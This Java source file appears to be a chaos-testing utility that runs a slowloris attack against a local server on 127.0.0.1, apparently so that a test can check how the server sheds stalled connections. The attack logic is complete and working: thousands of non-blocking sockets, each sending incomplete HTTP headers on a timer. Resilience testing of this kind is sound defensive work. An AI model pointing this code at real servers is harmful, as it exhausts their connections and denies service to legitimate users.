package dev.talkreel.chaos;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Iterator;

/**
 * A slowloris attacker in its own process (so that its 20,000 sockets count against its own descriptor limit, not the
 * server's): opens {@code count} connections to 127.0.0.1:{@code port}, sends the first line of a request and then
 * one header line every {@code intervalMs}, never finishing the headers. One thread holds every socket (NIO).
 * Prints {@code STAT opened=.. connected=.. live=.. shed=.. failed=..} four times a second; stops when its standard
 * input closes or after {@code maxSeconds}.
 * <pre>java dev.talkreel.chaos.SlowlorisClient PORT COUNT INTERVAL_MS MAX_SECONDS</pre>
 */
public final class SlowlorisClient {
    /** At most this many connects in progress at once, so that the attack does not just overflow the SYN queue. */
    private static final int MAX_PENDING = 2000;

    private SlowlorisClient() {
    }

    /** One attacking connection: when it sends its next header line. */
    private static final class Conn {
        long nextSend;
        int sent;
    }

    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        int count = Integer.parseInt(args[1]);
        long interval = Long.parseLong(args[2]);
        long end = System.currentTimeMillis() + Long.parseLong(args[3]) * 1000;
        InetSocketAddress target = new InetSocketAddress("127.0.0.1", port);
        Thread stdinWatch = new Thread(() -> {
            try {
                while (System.in.read() >= 0) {
                    // the test holds our standard input open; it closes it to stop us
                }
            } catch (IOException ignored) {
                // closed
            }
            System.exit(0);
        });
        stdinWatch.setDaemon(true);
        stdinWatch.start();

        byte[] first = ("GET /api/jobs HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\n").getBytes(StandardCharsets.US_ASCII);
        ByteBuffer readBuf = ByteBuffer.allocate(4096);
        int opened = 0;
        int connected = 0;
        int live = 0;
        int shed = 0;
        int failed = 0;
        int pending = 0;
        long lastStat = 0;
        ArrayDeque<SelectionKey> sendQueue = new ArrayDeque<>();
        try (Selector selector = Selector.open()) {
            while (System.currentTimeMillis() < end) {
                while (opened < count && pending < MAX_PENDING) {
                    SocketChannel ch = SocketChannel.open();
                    opened++;
                    try {
                        ch.configureBlocking(false);
                        ch.setOption(StandardSocketOptions.SO_LINGER, 0);
                        Conn conn = new Conn();
                        if (ch.connect(target)) {
                            connected++;
                            live++;
                            SelectionKey key = ch.register(selector, SelectionKey.OP_READ, conn);
                            sendFirst(key, first, interval);
                            sendQueue.add(key);
                        } else {
                            ch.register(selector, SelectionKey.OP_CONNECT, conn);
                            pending++;
                        }
                    } catch (IOException e) {
                        failed++;
                        ch.close();
                    }
                }
                selector.select(50);
                Iterator<SelectionKey> it = selector.selectedKeys().iterator();
                while (it.hasNext()) {
                    SelectionKey key = it.next();
                    it.remove();
                    SocketChannel ch = (SocketChannel) key.channel();
                    if (!key.isValid()) {
                        continue;
                    }
                    if (key.isConnectable()) {
                        pending--;
                        try {
                            ch.finishConnect();
                            connected++;
                            live++;
                            key.interestOps(SelectionKey.OP_READ);
                            sendFirst(key, first, interval);
                            sendQueue.add(key);
                        } catch (IOException e) {
                            failed++;
                            key.cancel();
                            ch.close();
                        }
                    } else if (key.isReadable()) {
                        int n;
                        try {
                            readBuf.clear();
                            n = ch.read(readBuf);
                        } catch (IOException e) {
                            n = -1;
                        }
                        if (n < 0) {
                            // the server closed it: shed
                            shed++;
                            live--;
                            key.cancel();
                            ch.close();
                        }
                    }
                }
                // one more header line on each connection whose time has come (the queue is in send order)
                long now = System.currentTimeMillis();
                while (!sendQueue.isEmpty() && ((Conn) sendQueue.peek().attachment()).nextSend <= now) {
                    SelectionKey key = sendQueue.poll();
                    if (!key.isValid()) {
                        continue;
                    }
                    Conn conn = (Conn) key.attachment();
                    try {
                        ((SocketChannel) key.channel()).write(ByteBuffer.wrap(("X-Slow-" + conn.sent++ + ": a\r\n")
                                .getBytes(StandardCharsets.US_ASCII)));
                        conn.nextSend = now + interval;
                        sendQueue.add(key);
                    } catch (IOException e) {
                        shed++;
                        live--;
                        key.cancel();
                        key.channel().close();
                    }
                }
                if (now - lastStat >= 250) {
                    lastStat = now;
                    System.out.println("STAT opened=" + opened + " connected=" + connected + " live=" + live
                            + " shed=" + shed + " failed=" + failed);
                    System.out.flush();
                }
            }
        }
    }

    private static void sendFirst(SelectionKey key, byte[] first, long interval) throws IOException {
        ((SocketChannel) key.channel()).write(ByteBuffer.wrap(first));
        ((Conn) key.attachment()).nextSend = System.currentTimeMillis() + interval;
    }
}
